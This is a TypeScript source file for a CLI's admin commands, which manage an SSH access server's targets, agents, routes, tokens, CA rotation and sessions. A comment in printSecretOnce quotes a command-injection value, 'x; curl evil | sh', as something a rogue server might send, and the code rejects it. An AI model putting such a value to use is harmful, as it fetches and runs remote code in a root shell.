/**
 * The `latchkey admin …` command group, the admin's tools over the access server's API (docs/admin-guide.md,
 * "Admin commands"), so that day-to-day changes need neither the server's host nor curl:
 *
 *   admin targets [list] [--hostname H] [--json]              the targets (id, hostname, IPv4, IPv6, network)
 *   admin targets add HOSTNAME --ip ADDR [--ip ADDR6] [--vnet NAME]   a new target
 *   admin targets remove ID|HOSTNAME                          remove one target
 *   admin agents [list] [--json]                              the enrolled agents and their last heartbeat
 *   admin agents remove ID|HOSTNAME [--keep-target]           revoke an agent (and delete its target)
 *   admin agents replace ID|HOSTNAME [--expires 24h]          a one-use token re-enrolling a rebuilt host
 *   admin routes [list] [--agent A] [--vnet NAME] [--json]    connectors' tunnel routes
 *   admin routes create NETWORK --agent A [--vnet NAME] [--comment T]   route a private network to an agent
 *   admin routes delete ROUTE_ID                              remove a route
 *   admin tokens [list] [--json]                              the account's API tokens, never their secrets
 *   admin tokens show|revoke TOKEN_ID                         one token; revoke it (refused at once)
 *   admin ca-rotation [status|start|switch [--force]|complete|cancel]   rotate the account's SSH CA
 *   admin join-token create [--name N] [--uses N] [--expires 24h]     a join token, its secret once
 *   admin audit [--action A] [--limit N] [--json]             the audit log, newest first
 *   admin sessions [list] [--json]                            the live SSH sessions at agents' SSH fronts
 *   admin sessions end SESSION_ID                             end one (its agent closes it within seconds)
 *
 * Every command uses an API token (--api-token or LATCHKEY_API_TOKEN): "Zero Trust: Read" to list targets,
 * agents and sessions, "Zero Trust: Edit" to change targets and agents, make join tokens and end sessions,
 * "Audit Logs: Read" for the audit log, "Account API Tokens: Read" / "Edit" for API tokens, "Access: SSH
 * Auditing: Read" / "Edit" for the CA rotation. Everything the server answers (much of it reported by agents) is escaped
 * before it reaches the terminal: the tables by domain/admin/admin-tables.ts, --json by jsonForTerminal.
 * The server is --server, LATCHKEY_SERVER, or the one you signed in to. Wiring only: the work is in
 * app/admin/, the checks and tables in domain/admin/. The HTTP client and the use-cases are loaded when an
 * admin command runs, not when `latchkey` starts.
 */
import type { Command } from 'commander';
import { LatchkeyError, type JoinToken } from '@latchkey/shared';
import type {
  AdminApi,
  ApiTokensApi,
  CaRotationApi,
  SshSessionsApi,
  TunnelRoutesApi,
} from '../../app/admin/ports.js';
import {
  checkTargetHostname,
  installLine,
  installerAcceptsUrl,
  isJoinTokenSecret,
  parseJoinTokenLifetime,
  parseJoinTokenUses,
  parseLimit,
  parseTargetAddresses,
  type AdminPermission,
} from '../../domain/admin/admin-arguments.js';
import { apiTokenConnection } from './api-token-connection.js';

export interface AdminCommandContext {
  env: NodeJS.ProcessEnv;
  userAgent: string;
  /** The server of the only stored sign-in, if there is exactly one. */
  signedInServer(): Promise<string | undefined>;
  notify(line: string): void;
  now(): Date;
}

interface ApiOptions {
  server?: string;
  apiToken?: string;
  account?: string;
  json?: boolean;
}

const collect = (value: string, all: string[] = []) => [...all, value];

export function addAdminCommand(program: Command, context: AdminCommandContext): void {
  const admin = program
    .command('admin')
    .description(
      'admins: targets, agents, tunnel routes, join tokens, API tokens, live SSH sessions and the audit log, over the API with an API token',
    );

  // `targets` alone lists (its default subcommand), so that each subcommand parses its own options.
  const targets = admin
    .command('targets')
    .description('the targets of the account: list (the default), add, remove');

  withApiOptions(
    targets
      .command('list', { isDefault: true })
      .description('the targets of the account (id, hostname, IPv4, IPv6, virtual network)'),
    'Zero Trust: Read',
  )
    .option('--hostname <name>', 'only targets with this hostname')
    .action(async (options: ApiOptions & { hostname?: string }) => {
      const api = await adminApi(context, options, 'Zero Trust: Read');
      const { listAdminTargets } = await import('../../app/admin/targets.js');
      const found = await listAdminTargets(api, {
        ...withDefined('account', options.account),
        ...withDefined('hostname', options.hostname),
      });
      const { renderAdminTargetsTable } = await import('../../domain/admin/admin-tables.js');
      await printForTerminal(options, found.targets, () =>
        renderAdminTargetsTable(found.targets, found.networkNames),
      );
    });

  withApiOptions(
    targets
      .command('add')
      .description('add a target: a hostname and its address(es) in a virtual network')
      .argument('<hostname>', 'the name people connect to (letters, digits, "-" and ".")'),
    'Zero Trust: Edit',
  )
    .option('--ip <addr>', 'its IPv4 or IPv6 address (give --ip twice for one of each)', collect)
    .option('--vnet <name>', "the virtual network's name (default: the account's default network)")
    .action(async (hostname: string, options: ApiOptions & { ip?: string[]; vnet?: string }) => {
      const ip = parseTargetAddresses(options.ip ?? []);
      checkTargetHostname(hostname);
      const api = await adminApi(context, options, 'Zero Trust: Edit');
      const { addAdminTarget } = await import('../../app/admin/targets.js');
      const target = await addAdminTarget(api, {
        ...withDefined('account', options.account),
        hostname,
        ip,
        ...withDefined('vnet', options.vnet),
      });
      const { escapeForTerminal: safe } = await import('../../domain/terminal-text.js');
      await printForTerminal(
        options,
        target,
        () => `Added target ${safe(target.hostname)} (${safe(target.id)}).\n`,
      );
    });

  withApiOptions(
    targets
      .command('remove')
      .description('remove a target (people can no longer get certificates for it)')
      .argument('<target>', 'the target id, or its hostname when only one target has it'),
    'Zero Trust: Edit',
  ).action(async (target: string, options: ApiOptions) => {
    const api = await adminApi(context, options, 'Zero Trust: Edit');
    const { removeAdminTarget } = await import('../../app/admin/targets.js');
    const removed = await removeAdminTarget(api, { ...withDefined('account', options.account), target });
    const { escapeForTerminal: safe } = await import('../../domain/terminal-text.js');
    await printForTerminal(
      options,
      removed,
      () => `Removed target ${safe(removed.hostname)} (${safe(removed.id)}).\n`,
    );
  });

  // `agents` alone lists (its default subcommand), as `targets` does.
  const agents = admin
    .command('agents')
    .description('the enrolled agents: list (the default), remove, replace');

  withApiOptions(
    agents
      .command('list', { isDefault: true })
      .description(
        'the enrolled agents: target, version, sshd config state, recording, last heartbeat, break-glass',
      ),
    'Zero Trust: Read',
  ).action(async (options: ApiOptions) => {
    const api = await adminApi(context, options, 'Zero Trust: Read');
    const { listAdminAgents } = await import('../../app/admin/agents.js');
    const found = await listAdminAgents(api, { ...withDefined('account', options.account) });
    const { renderAgentsTable } = await import('../../domain/admin/admin-tables.js');
    await printForTerminal(options, found.agents, () =>
      renderAgentsTable(found.agents, found.targetHostnames, context.now()),
    );
  });

  withApiOptions(
    agents
      .command('remove')
      .description(
        'remove an agent: its credential dies at once; its target is deleted too unless --keep-target',
      )
      .argument('<agent>', 'the agent id, or its hostname when only one agent has it'),
    'Zero Trust: Edit',
  )
    .option('--keep-target', 'keep its target, without an agent (people reach it with plain certificates)')
    .action(async (agent: string, options: ApiOptions & { keepTarget?: boolean }) => {
      const api = await adminApi(context, options, 'Zero Trust: Edit');
      const { removeAdminAgent } = await import('../../app/admin/agents.js');
      const removed = await removeAdminAgent(api, {
        ...withDefined('account', options.account),
        agent,
        keepTarget: options.keepTarget === true,
      });
      const { escapeForTerminal: safe } = await import('../../domain/terminal-text.js');
      await printForTerminal(
        options,
        removed,
        () =>
          `Removed agent ${safe(removed.hostname)} (${safe(removed.id)}): its credential is revoked` +
          (options.keepTarget === true
            ? '; its target is kept without an agent.\n'
            : ' and its target deleted.\n'),
      );
    });

  withApiOptions(
    agents
      .command('replace')
      .description(
        'a one-use join token that re-enrols a rebuilt host as this agent, keeping its target; its secret once',
      )
      .argument('<agent>', 'the agent id, or its hostname when only one agent has it'),
    'Zero Trust: Edit',
  )
    .option('--expires <lifetime>', 'how long the token lasts: 30m, 24h … up to 7d (default 24h)')
    .action(async (agent: string, options: ApiOptions & { expires?: string }) => {
      const { parseReplaceTokenLifetime } = await import('../../domain/admin/admin-arguments.js');
      const expiresInSeconds = parseReplaceTokenLifetime(options.expires);
      const api = await adminApi(context, options, 'Zero Trust: Edit');
      const { replaceAdminAgent } = await import('../../app/admin/agents.js');
      const made = await replaceAdminAgent(api, {
        ...withDefined('account', options.account),
        agent,
        ...withDefined('expiresInSeconds', expiresInSeconds),
      });
      const { escapeForTerminal } = await import('../../domain/terminal-text.js');
      const safe = (value: unknown) => escapeForTerminal(String(value));
      await printSecretOnce(
        options,
        made.joinToken,
        api,
        `replace token ${safe(made.joinToken.id)} for agent ${safe(made.agent.hostname)} (${safe(made.agent.id)}), ` +
          `expires ${safe(made.joinToken.expires_at)}. Its old credential keeps working until the host ` +
          'enrols with it. The secret is printed once; on the rebuilt host run:',
        context,
      );
    });

  // `routes` alone lists (its default subcommand), as `targets` does.
  const routes = admin
    .command('routes')
    .description(
      "connectors' tunnel routes (private networks an agent dials): list (the default), create, delete",
    );

  withApiOptions(
    routes
      .command('list', { isDefault: true })
      .description('the tunnel routes: id, network, agent, virtual network, comment, created'),
    'Zero Trust: Read',
  )
    .option('--agent <agent>', 'only the routes of this agent (its id, or its hostname)')
    .option('--vnet <name>', 'only the routes of this virtual network')
    .action(async (options: ApiOptions & { agent?: string; vnet?: string }) => {
      const api = await adminApi(context, options, 'Zero Trust: Read');
      const { listAdminTunnelRoutes } = await import('../../app/admin/tunnel-routes.js');
      const found = await listAdminTunnelRoutes(api, {
        ...withDefined('account', options.account),
        ...withDefined('agent', options.agent),
        ...withDefined('vnet', options.vnet),
      });
      const { renderTunnelRoutesTable } = await import('../../domain/admin/tunnel-routes-table.js');
      await printForTerminal(options, found.routes, () =>
        renderTunnelRoutesTable(found.routes, found.agentNames, found.networkNames),
      );
    });

  withApiOptions(
    routes
      .command('create')
      .description('route a private network to a connector agent, which dials its addresses for people')
      .argument('<network>', 'IPv4 or IPv6 CIDR, e.g. 10.77.0.0/24 (a bare address is a /32 or /128)'),
    'Zero Trust: Edit',
  )
    .requiredOption(
      '--agent <agent>',
      'the connector: the agent id, or its hostname when only one agent has it',
    )
    .option('--vnet <name>', "the virtual network's name (default: the account's default network)")
    .option('--comment <text>', 'what the route is for')
    .action(
      async (network: string, options: ApiOptions & { agent: string; vnet?: string; comment?: string }) => {
        const api = await adminApi(context, options, 'Zero Trust: Edit');
        const { createAdminTunnelRoute } = await import('../../app/admin/tunnel-routes.js');
        const { route, agent } = await createAdminTunnelRoute(api, {
          ...withDefined('account', options.account),
          network,
          agent: options.agent,
          ...withDefined('vnet', options.vnet),
          ...withDefined('comment', options.comment),
        });
        const { escapeForTerminal: safe } = await import('../../domain/terminal-text.js');
        await printForTerminal(
          options,
          route,
          () =>
            `Routed ${safe(route.network)} to agent ${safe(agent.hostname)} (${safe(agent.id)}): route ${safe(route.id)}.\n`,
        );
      },
    );

  withApiOptions(
    routes
      .command('delete')
      .description('remove a tunnel route')
      .argument('<route_id>', 'the route, as `latchkey admin routes` lists it'),
    'Zero Trust: Edit',
  ).action(async (routeId: string, options: ApiOptions) => {
    const api = await adminApi(context, options, 'Zero Trust: Edit');
    const { deleteAdminTunnelRoute } = await import('../../app/admin/tunnel-routes.js');
    const deleted = await deleteAdminTunnelRoute(api, {
      ...withDefined('account', options.account),
      routeId,
    });
    const { escapeForTerminal: safe } = await import('../../domain/terminal-text.js');
    await printForTerminal(
      options,
      deleted,
      () => `Deleted route ${safe(deleted.id)} (${safe(deleted.network)}).\n`,
    );
  });

  // `tokens` alone lists (its default subcommand).
  const tokens = admin
    .command('tokens')
    .description("the account's API tokens (never their secrets): list (the default), show, revoke");

  withApiOptions(
    tokens
      .command('list', { isDefault: true })
      .description("the account's API tokens: id, name, permissions, status, dates (agents' are not listed)"),
    'Account API Tokens: Read',
  ).action(async (options: ApiOptions) => {
    const api = await adminApi(context, options, 'Account API Tokens: Read');
    const { listAdminApiTokens } = await import('../../app/admin/api-tokens.js');
    const found = await listAdminApiTokens(api, { ...withDefined('account', options.account) });
    const { renderApiTokensTable } = await import('../../domain/admin/admin-tables.js');
    await printForTerminal(options, found, () => renderApiTokensTable(found, context.now()));
  });

  withApiOptions(
    tokens
      .command('show')
      .description('one API token, without its secret')
      .argument('<token_id>', 'its id, as `latchkey admin tokens` lists it'),
    'Account API Tokens: Read',
  ).action(async (tokenId: string, options: ApiOptions) => {
    const { checkTokenId } = await import('../../domain/admin/admin-arguments.js');
    checkTokenId(tokenId);
    const api = await adminApi(context, options, 'Account API Tokens: Read');
    const { showAdminApiToken } = await import('../../app/admin/api-tokens.js');
    const token = await showAdminApiToken(api, { ...withDefined('account', options.account), tokenId });
    const { describeApiToken } = await import('../../domain/admin/admin-tables.js');
    await printForTerminal(options, token, () => describeApiToken(token, context.now()));
  });

  withApiOptions(
    tokens
      .command('revoke')
      .description('revoke an API token: its next request is refused, on every server')
      .argument('<token_id>', 'its id, as `latchkey admin tokens` lists it'),
    'Account API Tokens: Edit',
  ).action(async (tokenId: string, options: ApiOptions) => {
    const { checkTokenId } = await import('../../domain/admin/admin-arguments.js');
    checkTokenId(tokenId);
    const api = await adminApi(context, options, 'Account API Tokens: Edit');
    const { revokeAdminApiToken } = await import('../../app/admin/api-tokens.js');
    const revoked = await revokeAdminApiToken(api, {
      ...withDefined('account', options.account),
      tokenId,
    });
    const { escapeForTerminal: safe } = await import('../../domain/terminal-text.js');
    await printForTerminal(
      options,
      revoked,
      () => `Revoked API token ${safe(revoked.id)} (${safe(revoked.name)}): its next request is refused.\n`,
    );
  });

  withApiOptions(
    admin
      .command('join-token')
      .description('join tokens, which let a host enrol its agent')
      .command('create')
      .description('make a join token; prints its secret once, and the line to run on each host'),
    'Zero Trust: Edit',
  )
    .option('--name <name>', 'what it is for (default: "join token created TIME")')
    .option('--uses <n>', 'how many hosts may enrol with it, 1 to 100000 (default 1)')
    .option('--expires <lifetime>', 'how long it lasts: 30m, 24h, 7d, 2w … up to 366d (default 24h)')
    .action(async (options: ApiOptions & { name?: string; uses?: string; expires?: string }) => {
      const maxUses = parseJoinTokenUses(options.uses);
      const expiresInSeconds = parseJoinTokenLifetime(options.expires);
      const api = await adminApi(context, options, 'Zero Trust: Edit');
      const { createAdminJoinToken } = await import('../../app/admin/join-tokens.js');
      const made = await createAdminJoinToken(api, {
        ...withDefined('account', options.account),
        name: options.name ?? `join token created ${context.now().toISOString()}`,
        ...withDefined('maxUses', maxUses),
        ...withDefined('expiresInSeconds', expiresInSeconds),
      });
      const { escapeForTerminal } = await import('../../domain/terminal-text.js');
      const safe = (value: unknown) => escapeForTerminal(String(value));
      await printSecretOnce(
        options,
        made,
        api,
        `join token ${safe(made.id)} (${safe(made.name)}): ${safe(made.max_uses)} use(s), expires ${safe(made.expires_at)}. ` +
          'The secret is printed once; on each host run:',
        context,
      );
    });

  withApiOptions(
    admin.command('audit').description('the audit log, newest first: who changed what, and when'),
    'Audit Logs: Read',
  )
    .option('--action <action>', 'only this action, e.g. target.create')
    .option('--limit <n>', 'at most this many', '50')
    .action(async (options: ApiOptions & { action?: string; limit: string }) => {
      const limit = parseLimit(options.limit);
      const api = await adminApi(context, options, 'Audit Logs: Read');
      const { listAdminAuditEvents } = await import('../../app/admin/audit-events.js');
      const events = await listAdminAuditEvents(api, { ...withDefined('action', options.action), limit });
      const { renderAuditTable } = await import('../../domain/admin/admin-tables.js');
      await printForTerminal(options, events, () => renderAuditTable(events));
    });

  // `ca-rotation` alone shows where it stands (its default subcommand).
  const rotation = admin
    .command('ca-rotation')
    .description(
      "rotate the account's SSH CA without downtime: status (the default), start, switch, complete, cancel",
    );

  withApiOptions(
    rotation.command('status', { isDefault: true }).description('the phase, the current and the next CA'),
    'Access: SSH Auditing: Read',
  ).action(async (options: ApiOptions) => {
    const api = await adminApi(context, options, 'Access: SSH Auditing: Read');
    const { showCaRotation } = await import('../../app/admin/ca-rotation.js');
    const shown = await showCaRotation(api, { ...withDefined('account', options.account) });
    const { describeCaRotation } = await import('../../domain/admin/admin-tables.js');
    await printForTerminal(options, shown, () => describeCaRotation(shown));
  });

  const phases = [
    ['start', 'make the next CA: agents trust it beside the current one from their next cycle'],
    ['switch', 'the next CA signs from now on (refused while agents do not trust it yet, unless --force)'],
    ['complete', 'drop the old CA, once no certificate it signed can still be valid'],
    ['cancel', 'drop the next CA (before the switch only)'],
  ] as const;
  for (const [action, description] of phases) {
    const command = withApiOptions(
      rotation.command(action).description(description),
      'Access: SSH Auditing: Edit',
    );
    if (action === 'switch') {
      command.option('--force', 'switch even if some agents do not trust the next CA yet');
    }
    command.action(async (options: ApiOptions & { force?: boolean }) => {
      const api = await adminApi(context, options, 'Access: SSH Auditing: Edit');
      const { moveCaRotation } = await import('../../app/admin/ca-rotation.js');
      const moved = await moveCaRotation(api, {
        ...withDefined('account', options.account),
        action,
        ...withDefined('force', options.force),
      });
      const { describeCaRotation } = await import('../../domain/admin/admin-tables.js');
      await printForTerminal(options, moved, () => describeCaRotation(moved));
    });
  }

  // `sessions` alone lists (its default subcommand), as `targets` does.
  const sessions = admin
    .command('sessions')
    .description("the SSH sessions open at agents' SSH fronts: list (the default), end");

  withApiOptions(
    sessions
      .command('list', { isDefault: true })
      .description(
        "the live SSH sessions at agents' SSH fronts: session, person, UNIX user, target, program, started, client",
      ),
    'Zero Trust: Read',
  ).action(async (options: ApiOptions) => {
    const api = await adminApi(context, options, 'Zero Trust: Read');
    const { listAdminSshSessions } = await import('../../app/admin/ssh-sessions.js');
    const found = await listAdminSshSessions(api, { ...withDefined('account', options.account) });
    const { renderSshSessionsTable } = await import('../../domain/admin/admin-tables.js');
    await printForTerminal(options, found, () => renderSshSessionsTable(found, context.now()));
  });

  withApiOptions(
    sessions
      .command('end')
      .description('end a live SSH session: its agent closes it within seconds')
      .argument('<session_id>', 'the session, as `latchkey admin sessions` lists it'),
    'Zero Trust: Edit',
  ).action(async (sessionId: string, options: ApiOptions) => {
    const { checkSessionId } = await import('../../domain/admin/admin-arguments.js');
    checkSessionId(sessionId);
    const api = await adminApi(context, options, 'Zero Trust: Edit');
    const { endAdminSshSession } = await import('../../app/admin/ssh-sessions.js');
    const ended = await endAdminSshSession(api, { ...withDefined('account', options.account), sessionId });
    const { describeEndedSession } = await import('../../domain/admin/admin-tables.js');
    await printForTerminal(options, ended, () => describeEndedSession(ended));
  });
}

/**
 * A join token's secret, once: on stdout alone (so it can be captured), with `intro` and the install line
 * on stderr; or with --json the whole answer. A server that made the token but sent no secret is an error.
 */
async function printSecretOnce(
  options: { json?: boolean },
  made: JoinToken,
  api: AdminApi,
  intro: string,
  context: AdminCommandContext,
): Promise<void> {
  const server = api.url;
  const { escapeForTerminal, jsonForTerminal } = await import('../../domain/terminal-text.js');
  if (options.json === true) {
    process.stdout.write(`${jsonForTerminal(made)}\n`);
    return;
  }
  if (made.token === undefined) {
    throw new LatchkeyError(
      'unavailable',
      `${server} made join token ${escapeForTerminal(made.id)} but sent no secret`,
    );
  }
  // The secret goes into a line people paste into a root shell: anything but a token's characters (a
  // compromised or impostor server's `x; curl evil | sh`, escape sequences) is refused, never printed.
  if (!isJoinTokenSecret(made.token)) {
    throw new LatchkeyError(
      'unavailable',
      `${server} sent a join token secret that is not one (letters, digits, "_" and "-" only); nothing printed`,
    );
  }
  const sha256 = await api.agentPackageSha256();
  const notes = [
    ...(sha256 === undefined
      ? [
          'The server serves no agent package yet, so the line pins none: build it (npm run package:agent) ' +
            'and start the server with --agent-package FILE.',
        ]
      : []),
    ...(installerAcceptsUrl(server)
      ? []
      : [
          `The installer refuses ${server} (plain http beyond loopback): give the server an https:// URL, ` +
            'or add --allow-insecure-http on a test network only.',
        ]),
  ];
  context.notify([`${intro}`, `  ${installLine(server, made.token, sha256)}`, ...notes].join('\n'));
  process.stdout.write(`${made.token}\n`);
}

/**
 * The table (escaped by whoever renders it), or with --json the API's result as JSON escaped for the
 * terminal too (jsonForTerminal: C1 controls and bidirectional characters as \uXXXX, the same value).
 */
async function printForTerminal(
  options: { json?: boolean },
  result: unknown,
  table: () => string,
): Promise<void> {
  const { jsonForTerminal } = await import('../../domain/terminal-text.js');
  process.stdout.write(options.json === true ? `${jsonForTerminal(result)}\n` : table());
}

function withApiOptions(command: Command, permission: AdminPermission): Command {
  return command
    .option('--server <url>', 'the access server (default: LATCHKEY_SERVER, or the one you signed in to)')
    .option('--api-token <token>', `an API token with "${permission}" (default: LATCHKEY_API_TOKEN)`)
    .option('--account <id>', 'the account (default: the only one the token sees)')
    .option('--json', "print the API's result as JSON");
}

async function adminApi(
  context: AdminCommandContext,
  options: ApiOptions,
  permission: AdminPermission,
): Promise<AdminApi & SshSessionsApi & ApiTokensApi & CaRotationApi & TunnelRoutesApi> {
  const { server, token } = await apiTokenConnection(context, options, permission);
  const { HttpAdminApi } = await import('../http/admin-api-client.js');
  return new HttpAdminApi(server, token, { userAgent: context.userAgent });
}

function withDefined<K extends string, V>(key: K, value: V | undefined): { [P in K]?: V } {
  return (value === undefined ? {} : { [key]: value }) as { [P in K]?: V };
}
